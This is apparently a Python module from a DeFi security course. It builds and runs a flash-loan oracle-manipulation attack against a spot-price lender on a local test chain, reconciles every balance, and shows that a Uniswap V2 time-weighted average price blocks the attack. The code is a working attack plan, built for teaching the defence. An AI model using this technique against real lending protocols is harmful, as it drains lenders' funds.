"""Oracle manipulation with a flash loan, on-chain, and the time-weighted average that stops it.

A lender (``OracleLender.sol``) values collateral at a ``CoursePair``'s price. With the spot
price, an attacker flash-borrows dollars (``FlashLoanPool.sol``), buys the collateral (pushing
its price up), deposits it, borrows against the inflated price, repays the loan and keeps the
rest. With Uniswap V2's time-weighted average price (whitepaper section 2.2) the trade moves
nothing the lender reads. Every token is counted: ``AttackReport`` reconciles all balances to
the wei. Taught in notebook 10.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import dataclass

from eth_abi import encode
from web3 import Web3
from web3.contract import Contract
from web3.contract.contract import ContractFunction

from course.defi.amm import get_amount_out
from course.errors import DefiError
from course.evm.chain_time import advance_time
from course.evm.deploy import REVERTS, deploy, revert_reason, send
from course.validation import ensure, ensure_bool, ensure_instance, ensure_int

Q112 = 2**112  # Uniswap V2's fixed point: a price p is stored as p * 2**112
FLASH_FEE_BPS = 9  # 0.09%, Aave V2's flash-loan premium
LTV_BPS = 8_000  # the lender lends up to 80% of the collateral's value
TWAP_WINDOW = 3_600  # seconds the average must cover (one hour)
E18 = 10**18


class OracleAttackError(DefiError, ValueError):
    """A market parameter or an attack plan the course cannot run; the message names it."""


@dataclass(frozen=True)
class MarketView:
    """What an attacker reads before attacking: the pool, the lender's terms, the flash pool."""

    reserve_collateral: int  # WETH in the pair (wei)
    reserve_debt: int  # USDC in the pair (wei)
    lender_cash: int  # USDC the lender can lend out
    ltv_bps: int
    flash_fee_bps: int
    flash_available: int  # USDC the flash pool can lend


@dataclass(frozen=True)
class Step:
    """One call the attack contract makes inside the flash loan."""

    label: str
    target: str
    data: str


@dataclass(frozen=True)
class FlashAttack:
    """A whole attack: flash-borrow ``loan`` USDC, run ``steps``, repay loan + fee."""

    loan: int
    steps: tuple[Step, ...]


@dataclass
class OracleMarket:
    """A deployed market: WETH/USDC pair, a lender, a flash pool and the attacker's contract."""

    w3: Web3
    attacker: str
    weth: Contract
    usdc: Contract
    pair: Contract
    lender: Contract
    flash_pool: Contract
    executor: Contract

    def view(self) -> MarketView:
        reserve0, reserve1 = self.pair.functions.getReserves().call()
        return MarketView(
            reserve_collateral=reserve0,
            reserve_debt=reserve1,
            lender_cash=self.usdc.functions.balanceOf(self.lender.address).call(),
            ltv_bps=self.lender.functions.ltvBps().call(),
            flash_fee_bps=self.flash_pool.functions.feeBps().call(),
            flash_available=self.usdc.functions.balanceOf(self.flash_pool.address).call(),
        )

    def _step(self, label: str, call: ContractFunction) -> Step:
        return Step(label, call.address, call._encode_transaction_data())

    def buy_collateral(self, usdc_in: int, weth_out: int) -> list[Step]:
        """Steps that pay ``usdc_in`` into the pair and take ``weth_out`` (Uniswap's two moves)."""
        usdc_in = ensure_int(
            usdc_in, "usdc_in", minimum=1, meaning="USDC wei paid in", error=OracleAttackError
        )
        weth_out = ensure_int(
            weth_out, "weth_out", minimum=1, meaning="WETH wei taken out", error=OracleAttackError
        )
        return [
            self._step(
                f"pay {usdc_in / E18:,.2f} USDC into the pair",
                self.usdc.functions.transfer(self.pair.address, usdc_in),
            ),
            self._step(
                f"take {weth_out / E18:,.4f} WETH out",
                self.pair.functions.swap(weth_out, 0, self.executor.address),
            ),
        ]

    def sell_collateral(self, weth_in: int, usdc_out: int) -> list[Step]:
        """Steps that pay ``weth_in`` into the pair and take ``usdc_out``."""
        weth_in = ensure_int(
            weth_in, "weth_in", minimum=1, meaning="WETH wei paid in", error=OracleAttackError
        )
        usdc_out = ensure_int(
            usdc_out, "usdc_out", minimum=1, meaning="USDC wei taken out", error=OracleAttackError
        )
        return [
            self._step(
                f"pay {weth_in / E18:,.4f} WETH into the pair",
                self.weth.functions.transfer(self.pair.address, weth_in),
            ),
            self._step(
                f"take {usdc_out / E18:,.2f} USDC out",
                self.pair.functions.swap(0, usdc_out, self.executor.address),
            ),
        ]

    def deposit(self, weth: int) -> list[Step]:
        """Steps that approve the lender and deposit ``weth`` as collateral."""
        weth = ensure_int(
            weth, "weth", minimum=1, meaning="WETH wei to deposit", error=OracleAttackError
        )
        return [
            self._step(
                "approve the lender", self.weth.functions.approve(self.lender.address, weth)
            ),
            self._step(f"deposit {weth / E18:,.4f} WETH", self.lender.functions.deposit(weth)),
        ]

    def borrow(self, usdc: int) -> list[Step]:
        """The step that borrows ``usdc`` from the lender."""
        usdc = ensure_int(
            usdc, "usdc", minimum=1, meaning="USDC wei to borrow", error=OracleAttackError
        )
        return [self._step(f"borrow {usdc / E18:,.2f} USDC", self.lender.functions.borrow(usdc))]

    def holders(self) -> dict[str, str]:
        """Every party whose balances the report counts, by name."""
        return {
            "attacker": self.attacker,
            "attack contract": self.executor.address,
            "pair (LPs)": self.pair.address,
            "lender": self.lender.address,
            "flash pool": self.flash_pool.address,
        }


def deploy_market(
    w3: Web3,
    *,
    twap: bool,
    reserve_weth: int = 1_000 * E18,
    reserve_usdc: int = 2_000_000 * E18,
    lender_cash: int = 3_000_000 * E18,
    flash_liquidity: int = 10_000_000 * E18,
) -> OracleMarket:
    """Deploy a fresh market whose lender reads the spot price (``twap=False``) or the TWAP.

    The lender's TWAP window starts at deployment and the chain then moves ``TWAP_WINDOW``
    seconds on, with the pool untouched: the honest average equals the spot price exactly.
    """
    twap = ensure_bool(twap, "twap", error=OracleAttackError)
    for name, value in (
        ("reserve_weth", reserve_weth),
        ("reserve_usdc", reserve_usdc),
        ("lender_cash", lender_cash),
        ("flash_liquidity", flash_liquidity),
    ):
        ensure_int(
            value, name, minimum=10**6, maximum=2**100, meaning="token wei", error=OracleAttackError
        )
    accounts = list(w3.eth.accounts)
    deployer, attacker = accounts[0], accounts[1]
    supply = 2**110
    weth = deploy(w3, "CourseToken", "Wrapped Ether", "WETH", supply, sender=deployer)
    usdc = deploy(w3, "CourseToken", "USD Coin", "USDC", supply, sender=deployer)
    pair = deploy(w3, "CoursePair", weth.address, usdc.address, sender=deployer)
    send(w3, weth.functions.transfer(pair.address, reserve_weth), deployer)
    send(w3, usdc.functions.transfer(pair.address, reserve_usdc), deployer)
    send(w3, pair.functions.mint(deployer), deployer)
    lender = deploy(
        w3,
        "OracleLender",
        pair.address,
        weth.address,
        usdc.address,
        LTV_BPS,
        twap,
        TWAP_WINDOW if twap else 0,
        sender=deployer,
    )
    send(w3, usdc.functions.transfer(lender.address, lender_cash), deployer)
    if twap:
        send(w3, lender.functions.observe(), deployer)
    flash_pool = deploy(w3, "FlashLoanPool", usdc.address, FLASH_FEE_BPS, sender=deployer)
    send(w3, usdc.functions.transfer(flash_pool.address, flash_liquidity), deployer)
    executor = deploy(w3, "FlashAttacker", sender=attacker)
    advance_time(w3, TWAP_WINDOW)
    return OracleMarket(w3, attacker, weth, usdc, pair, lender, flash_pool, executor)


@dataclass(frozen=True)
class AttackReport:
    """What one attack did, balance by balance, in wei."""

    succeeded: bool
    reason: str  # the revert reason when it did not succeed
    usdc_change: dict[str, int]  # party -> change of its USDC balance
    weth_change: dict[str, int]
    price_before: int  # the lender's oracle price, UQ112x112
    debt_left: int  # what the attack contract owes the lender afterwards
    collateral_left: int  # WETH it left in the lender

    @property
    def profit(self) -> int:
        """The attacker's gain in USDC wei (their WETH does not change)."""
        return self.usdc_change["attacker"] + self.usdc_change["attack contract"]

    @property
    def lender_loss(self) -> int:
        """USDC lent out minus the collateral kept, valued at the price before the attack."""
        return self.debt_left - (self.collateral_left * self.price_before >> 112)


def flash_fee(amount: int, fee_bps: int = FLASH_FEE_BPS) -> int:
    """FlashLoanPool.flashFee: ``amount * fee_bps / 10_000``, rounded up."""
    return -(-amount * fee_bps // 10_000)


def run_attack(market: OracleMarket, plan: FlashAttack) -> AttackReport:
    """Send ``plan`` as one transaction from the attacker, sweep the profit, count everything."""
    ensure_instance(market, "market", OracleMarket, error=OracleAttackError)
    ensure_instance(
        plan, "plan", FlashAttack, rule="a FlashAttack(loan, steps)", error=OracleAttackError
    )
    ensure_int(
        plan.loan,
        "plan.loan",
        minimum=1,
        meaning="USDC wei to flash-borrow",
        error=OracleAttackError,
    )
    ensure(
        all(isinstance(step, Step) for step in plan.steps),
        OracleAttackError,
        "plan.steps",
        plan.steps,
        "Steps made by the market (market.buy_collateral(...) and so on)",
    )
    holders = market.holders()
    before = _balances(market, holders)
    price_before = market.lender.functions.priceX112().call()
    payload = encode(
        ["address[]", "bytes[]"],
        [[s.target for s in plan.steps], [bytes.fromhex(s.data[2:]) for s in plan.steps]],
    )
    try:
        send(
            market.w3,
            market.executor.functions.attack(market.flash_pool.address, plan.loan, payload),
            market.attacker,
        )
        succeeded, reason = True, ""
    except REVERTS as error:
        succeeded, reason = False, revert_reason(error)
    if succeeded:
        send(market.w3, market.executor.functions.sweep(market.usdc.address), market.attacker)
    after = _balances(market, holders)
    usdc = {name: after[name][0] - before[name][0] for name in holders}
    weth = {name: after[name][1] - before[name][1] for name in holders}
    lender = market.lender.functions
    return AttackReport(
        succeeded,
        reason,
        usdc,
        weth,
        price_before,
        lender.debtOf(market.executor.address).call(),
        lender.collateralOf(market.executor.address).call(),
    )


def _balances(market: OracleMarket, holders: dict[str, str]) -> dict[str, tuple[int, int]]:
    return {
        name: (
            market.usdc.functions.balanceOf(address).call(),
            market.weth.functions.balanceOf(address).call(),
        )
        for name, address in holders.items()
    }


def spot_price_x112(reserve_collateral: int, reserve_debt: int) -> int:
    """OracleLender.spotPriceX112: USDC per WETH times 2**112, rounded down."""
    return (reserve_debt << 112) // reserve_collateral


def borrow_limit(collateral: int, price_x112: int, ltv_bps: int = LTV_BPS) -> int:
    """OracleLender.borrowLimit: collateral * price * LTV, rounded down as the contract does."""
    return (collateral * price_x112 >> 112) * ltv_bps // 10_000


def pump_and_borrow(market: OracleMarket, usdc_in: int) -> FlashAttack:
    """The classic plan: buy WETH with ``usdc_in`` of flash-borrowed USDC, deposit it all, and
    borrow the most the *spot* price allows (capped by the lender's cash)."""
    view = market.view()
    weth_out = get_amount_out(usdc_in, view.reserve_debt, view.reserve_collateral)
    price = spot_price_x112(view.reserve_collateral - weth_out, view.reserve_debt + usdc_in)
    borrowed = min(borrow_limit(weth_out, price, view.ltv_bps), view.lender_cash)
    steps = (
        market.buy_collateral(usdc_in, weth_out)
        + market.deposit(weth_out)
        + market.borrow(borrowed)
    )
    return FlashAttack(loan=usdc_in, steps=tuple(steps))


def reconcile(report: AttackReport, fee: int) -> list[str]:
    """Every conservation rule the report must satisfy; an empty list means all hold."""
    broken = []
    for token, change in (("USDC", report.usdc_change), ("WETH", report.weth_change)):
        if sum(change.values()) != 0:
            broken.append(f"{token} changes do not sum to 0: {change}")
    if not report.succeeded:
        if any(report.usdc_change.values()) or any(report.weth_change.values()):
            broken.append("a reverted attack moved tokens")
        return broken
    lent = -report.usdc_change["lender"]
    paid_to_pool = report.usdc_change["pair (LPs)"]
    if report.profit != lent - paid_to_pool - fee:
        broken.append(
            f"profit {report.profit} != lent {lent} - paid to the pair {paid_to_pool} - fee {fee}"
        )
    if report.usdc_change["flash pool"] != fee:
        broken.append(f"the flash pool earned {report.usdc_change['flash pool']}, not {fee}")
    return broken


AttackPlanner = Callable[[OracleMarket], FlashAttack]


def attack_both_lenders(
    w3: Web3, planner: AttackPlanner, **sizes: int
) -> tuple[AttackReport, AttackReport]:
    """Run the same planner against a fresh spot-price market and a fresh TWAP market."""
    reports = []
    for twap in (False, True):
        market = deploy_market(w3, twap=twap, **sizes)
        reports.append(run_attack(market, planner(market)))
    return reports[0], reports[1]


def steps_table(plan: FlashAttack) -> Sequence[str]:
    """The plan as numbered lines, for printing."""
    return [f"{i}. {step.label}" for i, step in enumerate(plan.steps, 1)]
